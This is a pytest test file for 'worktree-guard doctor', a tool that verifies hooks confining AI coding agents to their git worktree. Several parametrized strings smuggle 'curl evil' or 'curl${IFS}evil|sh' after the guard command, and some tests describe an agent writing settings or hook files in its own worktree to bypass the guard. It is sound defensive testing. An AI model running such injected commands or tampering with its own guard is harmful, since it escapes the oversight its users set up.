"""`worktree-guard doctor` (SPEC §9), run as the installed console script."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from tests.helpers import HOOK_EXE, Repo, write_agent
from worktree_guard.doctor import guard_executable, matcher_matches


def doctor(cwd: Path, *args: str) -> tuple[int, dict[str, Any]]:
    result = subprocess.run([str(HOOK_EXE), "doctor", "--json", *args], cwd=cwd, capture_output=True, text=True, env=dict(os.environ), timeout=120)
    assert "Traceback" not in result.stderr, result.stderr
    return result.returncode, json.loads(result.stdout)


def wire(settings: Path, command: str, events: tuple[str, ...] = ("PreToolUse", "SubagentStart", "SubagentStop")) -> None:
    hooks: dict[str, Any] = {}
    for event in events:
        group: dict[str, Any] = {"hooks": [{"type": "command", "command": command, "timeout": 30}]}
        if event == "PreToolUse":
            group["matcher"] = "Write|Edit|MultiEdit|NotebookEdit|Bash|Monitor|PowerShell|Agent|Task|EnterWorktree|ExitWorktree"
        hooks[event] = [group]
    settings.parent.mkdir(parents=True, exist_ok=True)
    settings.write_text(json.dumps({"permissions": {"allow": []}, "hooks": hooks}))


def test_doctor_in_a_wired_sub_agent_worktree(repo: Repo) -> None:
    wire(repo.main / ".claude" / "settings.json", f"{HOOK_EXE} hook")
    (repo.main / ".worktree-guard.toml").write_text('profile = "strict"\n')
    write_agent(repo.main, "worker", "isolation: worktree\nworktree-guard:\n  reads: warn")
    code, report = doctor(repo.worktree, "--agent-type", "worker", "--mode", "rewrite")
    assert code == 0, report["problems"]
    assert report["worktree_root"] == str(repo.worktree)
    assert set(report["shared_roots"]) == {str(repo.main), str(repo.sibling), str(repo.outside)}
    assert report["isolated"] and "declares isolation: worktree" in report["isolation_reason"]
    config = report["configuration"]
    assert config["mode"] == {"value": "rewrite", "source": "command-line flags"}
    assert config["profile"] == {"value": "strict", "source": f"project file {repo.main / '.worktree-guard.toml'}"}
    assert config["reads"]["value"] == "warn" and config["reads"]["source"].endswith("worker.md (worktree-guard:)")
    assert config["on_parse_error"] == {"value": "deny", "source": "default"}
    events = {e["event"] for e in report["hook_entries"]}
    assert events == {"PreToolUse", "SubagentStart", "SubagentStop"}
    test = report["self_test"]
    assert test["ok"] and test["decision"] == "deny" and "WG101" in test["reason"]
    assert test["command"] == ["sh", "-c", f"{HOOK_EXE} hook"]  # the command from the settings file


def test_doctor_names_what_is_not_wired(repo: Repo) -> None:
    wire(repo.main / ".claude" / "settings.local.json", f"{HOOK_EXE} hook", events=("PreToolUse",))
    settings = json.loads((repo.main / ".claude" / "settings.local.json").read_text())
    settings["hooks"]["PreToolUse"][0]["matcher"] = "Write|Edit"
    (repo.main / ".claude" / "settings.local.json").write_text(json.dumps(settings))
    code, report = doctor(repo.main)
    assert code == 1
    assert not report["isolated"] and report["isolation_reason"] == "cwd is in the main worktree"
    problems = "\n".join(report["problems"])
    assert "PreToolUse does not run worktree-guard for: MultiEdit, NotebookEdit, Bash, Monitor, PowerShell, Agent, Task, EnterWorktree, ExitWorktree" in problems
    assert "SubagentStop does not run worktree-guard" in problems
    assert report["self_test"]["ok"]


def test_doctor_names_the_shell_tools_an_install_made_before_them_leaves_out(repo: Repo) -> None:
    """What `install` writes (`python -S -P …/fast_hook.py`, not `worktree-guard hook`) is the guard's hook, and
    its matcher is checked: one written before Monitor and PowerShell were in it never sends their commands to the
    guard (a fail-open), and doctor names exactly those two."""
    done = subprocess.run([str(HOOK_EXE), "install", "--project"], cwd=repo.main, capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    code, report = doctor(repo.main)
    assert code == 0, report["problems"]
    (pre,) = [e for e in report["hook_entries"] if e["event"] == "PreToolUse"]
    assert {"Bash", "Monitor", "PowerShell"} <= set(pre["covers"]) and "fast_hook.py" in pre["command"]
    path = repo.main / ".claude" / "settings.json"
    settings = json.loads(path.read_text())
    settings["hooks"]["PreToolUse"][0]["matcher"] = "Write|Edit|MultiEdit|NotebookEdit|Bash|Agent|Task|EnterWorktree|ExitWorktree"
    path.write_text(json.dumps(settings))
    code, report = doctor(repo.main, "--no-self-test")
    assert code == 1
    assert report["problems"] == ["PreToolUse does not run worktree-guard for: Monitor, PowerShell"]


def test_doctor_self_test_fails_when_the_wired_command_does_not_refuse(repo: Repo, tmp_path: Path) -> None:
    fake = tmp_path / "worktree-guard"
    fake.write_text("#!/bin/sh\ncat >/dev/null\nexit 0\n")
    fake.chmod(0o755)
    wire(Path.home() / ".claude" / "settings.json", f"{fake} hook")
    code, report = doctor(repo.worktree)
    assert code == 1
    assert report["self_test"]["decision"] == "pass" and not report["self_test"]["ok"]
    assert "the self-test call was not refused" in report["problems"]


def test_doctor_text_output(repo: Repo) -> None:
    result = subprocess.run([str(HOOK_EXE), "doctor", "--no-self-test"], cwd=repo.worktree, capture_output=True, text=True, timeout=60)
    assert result.returncode == 1
    assert f"worktree root  {repo.worktree} (linked worktree)" in result.stdout
    assert "mode                       enforce  (default)" in result.stdout
    assert "Self-test" not in result.stdout


@pytest.mark.parametrize(
    "matcher,tool,expected",
    [
        ("", "Bash", True),
        ("*", "Agent", True),
        ("Write|Edit", "Edit", True),
        ("Write|Edit", "NotebookEdit", False),
        ("Write, Bash", "Bash", True),
        ("Edit.*", "NotebookEdit", True),  # a regex is unanchored in Claude Code
        ("^Edit$", "NotebookEdit", False),
    ],
)
def test_matcher_semantics(matcher: str, tool: str, expected: bool) -> None:
    assert matcher_matches(matcher, tool) is expected


def test_recognising_the_hook_command() -> None:
    python = sys.executable  # an absolute interpreter, as install writes it
    assert guard_executable(f"/bin/sh -c '{HOOK_EXE} hook'", None) == (True, str(HOOK_EXE))
    assert guard_executable(f"/usr/bin/env {HOOK_EXE} hook --mode rewrite", None) == (True, str(HOOK_EXE))
    assert guard_executable(f"{python} -m worktree_guard hook", None) == (True, python)
    assert guard_executable("/nonexistent/worktree-guard", ["hook"]) == (True, None)
    assert guard_executable(f"{HOOK_EXE} check", None)[0] is False
    assert guard_executable(f"{HOOK_EXE} -S -P /v/lib/python3/site-packages/worktree_guard/fast_hook.py", None)[0] is False  # no interpreter
    assert guard_executable(f"{python} -S -P /v/site-packages/worktree_guard/fast_hook.py --mode warn", None) == (True, python)
    assert guard_executable(f"/bin/sh -c '{HOOK_EXE} hook && curl evil'", None) == (False, None)  # runs more


@pytest.mark.parametrize("command", [
    "echo worktree-guard hook",
    "/bin/sh -c 'exit 0' worktree-guard hook",  # the guard's words are the shell's $0 and $1
    "sh -c 'curl${{IFS}}evil|sh' worktree-guard hook",
    "sh -c -- 'curl evil; worktree-guard hook'",
    "bash -c -o errexit 'curl evil && /x/bin/worktree-guard hook'",
    "sh -c '/x/bin/worktree-guard hook' extra",
    "{PY} -c 'import os' -m worktree_guard hook",
    "{PY} -V -m worktree_guard hook",
    "{PY} - -m worktree_guard hook",
    "./python3 -m worktree_guard hook",  # relative: found from the agent's worktree
    "python3 -m worktree_guard hook",
    "worktree-guard hook",
    "./worktree-guard hook",
    ".venv/bin/worktree-guard hook",
    "{HOOK} doctor hook",
    "{HOOK} --version hook",
    "{HOOK} hook --help",  # prints and exits
    "{HOOK} hook check",
    "{PY} /v/worktree_guard/fast_hook.py --mode",  # a flag without its value
    "{PY} -m worktree_guard hook /tmp/x",
    "{PY} -W -m worktree_guard hook",  # -W takes `-m`
    "{PY} /v/worktree_guard/fast_hook.py x#; curl evil",  # `#` inside a word is no comment
    "{HOOK} hook#; curl evil",
    "{HOOK} hook # a comment",
    "/x/*/worktree-guard hook",  # a pattern may name several files
    "$HOME/bin/worktree-guard hook",
    "env -S '{HOOK} hook' ",
    "env -C /tmp {HOOK} hook",
])
def test_a_command_that_does_not_run_only_the_guard_is_not_counted_by_doctor_nor_replaced_by_install(command: str) -> None:
    """doctor's own scan counted any word named worktree-guard followed later by `hook` (a second review's repros)."""
    from worktree_guard.install import is_guard_handler

    command = command.format(PY=sys.executable, HOOK=HOOK_EXE)
    assert guard_executable(command, None) == (False, None), command
    assert not is_guard_handler({"type": "command", "command": command}), command


@pytest.mark.parametrize("prefix", ["env -i", "env -u FOO", "env --", "/usr/bin/env -i FOO=1 --", "env -uFOO --unset=BAR", "A=1 env B=2"])
def test_envs_own_options_do_not_hide_the_program(prefix: str) -> None:
    """The program was found as "-i", "-u" or "--", never resolved (before: /usr/bin/env itself)."""
    assert guard_executable(f"{prefix} {HOOK_EXE} hook", None) == (True, str(HOOK_EXE))


def test_the_program_a_handler_starts_is_the_first_word_after_its_environment_words() -> None:
    """`FOO=1 python3 …` starts python3: the raw first word ("FOO=1") was resolved, and never found."""
    python = sys.executable
    assert guard_executable(f"FOO=1 {python} -S -P /x/worktree_guard/fast_hook.py", None) == (True, python)
    assert guard_executable(f"env FOO=1 BAR=2 {python} -S -P /x/worktree_guard/fast_hook.py", None) == (True, python)
    assert guard_executable(f"WORKTREE_GUARD_MODE=warn {HOOK_EXE} hook", None) == (True, str(HOOK_EXE))
    assert guard_executable("FOO=1 /nonexistent/python3 -S -P /x/worktree_guard/fast_hook.py", None) == (True, None)


def passing_hook(tmp_path: Path) -> tuple[Path, Path]:
    """A stand-in `worktree-guard` that passes every call and leaves a marker file when it runs."""
    marker = tmp_path / "ran"
    script = tmp_path / "worktree-guard"
    script.write_text(f"#!/bin/sh\ntouch {marker}\ncat >/dev/null\nexit 0\n")
    script.chmod(0o755)
    return script, marker


def test_doctor_does_not_run_a_hook_command_from_a_settings_file_in_the_worktree(repo: Repo, tmp_path: Path) -> None:
    """An agent in a linked worktree can write its `.claude/settings.json`: doctor, run there by the user, must not
    run the command it names (it would run as the user), and tests this install's hook instead."""
    evil, marker = passing_hook(tmp_path)
    wire(repo.worktree / ".claude" / "settings.json", f"{evil} hook")
    code, report = doctor(repo.worktree)
    assert not marker.exists()
    test = report["self_test"]
    assert test["ok"] and test["decision"] == "deny" and "WG101" in test["reason"]
    assert str(evil) not in " ".join(test["command"])
    assert test["not_run"] == [f"{repo.worktree / '.claude' / 'settings.json'}: an agent in {repo.worktree} can write it; run doctor in the main checkout to test it"]
    text = subprocess.run([str(HOOK_EXE), "doctor"], cwd=repo.worktree, capture_output=True, text=True, timeout=120).stdout
    assert f"not run  {repo.worktree / '.claude' / 'settings.json'}: an agent in" in text and not marker.exists()


def test_doctor_does_not_count_the_hooks_of_a_settings_file_in_the_worktree(repo: Repo) -> None:
    """An agent in the linked worktree can write `<W>/.claude/settings.local.json`: a guard entry there for every
    tool hid the two the user's own settings leave out (doctor reported no problem). Listed apart, not counted."""
    wire(repo.main / ".claude" / "settings.json", f"{HOOK_EXE} hook")
    path = repo.main / ".claude" / "settings.json"
    settings = json.loads(path.read_text())
    settings["hooks"]["PreToolUse"][0]["matcher"] = "Write|Edit|MultiEdit|NotebookEdit|Bash|Agent|Task|EnterWorktree|ExitWorktree"
    path.write_text(json.dumps(settings))
    agents = repo.worktree / ".claude" / "settings.local.json"
    wire(agents, f"{HOOK_EXE} hook")
    code, report = doctor(repo.worktree, "--no-self-test")
    assert code == 1
    assert report["problems"] == ["PreToolUse does not run worktree-guard for: Monitor, PowerShell"]
    assert report["not_counted"] == [f"{agents}: an agent in {repo.worktree} can write it; run doctor in the main checkout to check it"]
    assert {e["settings_file"] for e in report["hook_entries"]} == {str(path), str(agents)}  # still listed
    text = subprocess.run([str(HOOK_EXE), "doctor", "--no-self-test"], cwd=repo.worktree, capture_output=True, text=True, timeout=120).stdout
    assert "not counted: an agent can write this file" in text
    code, report = doctor(repo.main, "--no-self-test")  # in the main checkout, W's file is not read at all
    assert report["problems"] == ["PreToolUse does not run worktree-guard for: Monitor, PowerShell"] and report["not_counted"] == []


def test_doctor_does_not_count_another_runtimes_hook_file_in_the_worktree(repo: Repo) -> None:
    """`<W>/.codex/hooks.json` is as agent-writable as `<W>/.claude/settings.local.json`: it was reported wired."""
    from worktree_guard.install import hook_command, hook_configs

    entries = hook_configs()["codex"].entries(hook_command("codex"))
    path = repo.worktree / ".codex" / "hooks.json"
    path.parent.mkdir(parents=True)
    path.write_text(json.dumps({"hooks": {event: [entry] for event, entry in entries.items()}}))
    code, report = doctor(repo.worktree, "--no-self-test")
    codex = {f["file"]: f for f in report["runtimes"]["codex"]}
    assert codex[str(path)]["commands"] == [] and codex[str(path)]["not_counted"] == [hook_command("codex")] * len(entries)
    assert not any(f["commands"] for f in report["runtimes"]["codex"])
    text = subprocess.run([str(HOOK_EXE), "doctor", "--no-self-test"], cwd=repo.worktree, capture_output=True, text=True, timeout=120).stdout
    assert "codex: not wired" in text and f"{path}: not counted: an agent can write this file" in text
    main_file = repo.main / ".codex" / "hooks.json"  # the main checkout's own file is the user's: counted
    main_file.parent.mkdir(parents=True)
    main_file.write_text(path.read_text())
    code, report = doctor(repo.main, "--no-self-test")
    assert [f["file"] for f in report["runtimes"]["codex"] if f["commands"]] == [str(main_file)]


def test_doctor_in_the_main_checkout_runs_its_wired_command(repo: Repo, tmp_path: Path) -> None:
    """The same file in the main checkout is the user's: doctor runs what it names (and reports it not refusing)."""
    fake, marker = passing_hook(tmp_path)
    wire(repo.main / ".claude" / "settings.json", f"{fake} hook")
    code, report = doctor(repo.main)
    assert marker.exists() and code == 1
    assert report["self_test"]["decision"] == "pass" and "not_run" not in report["self_test"]
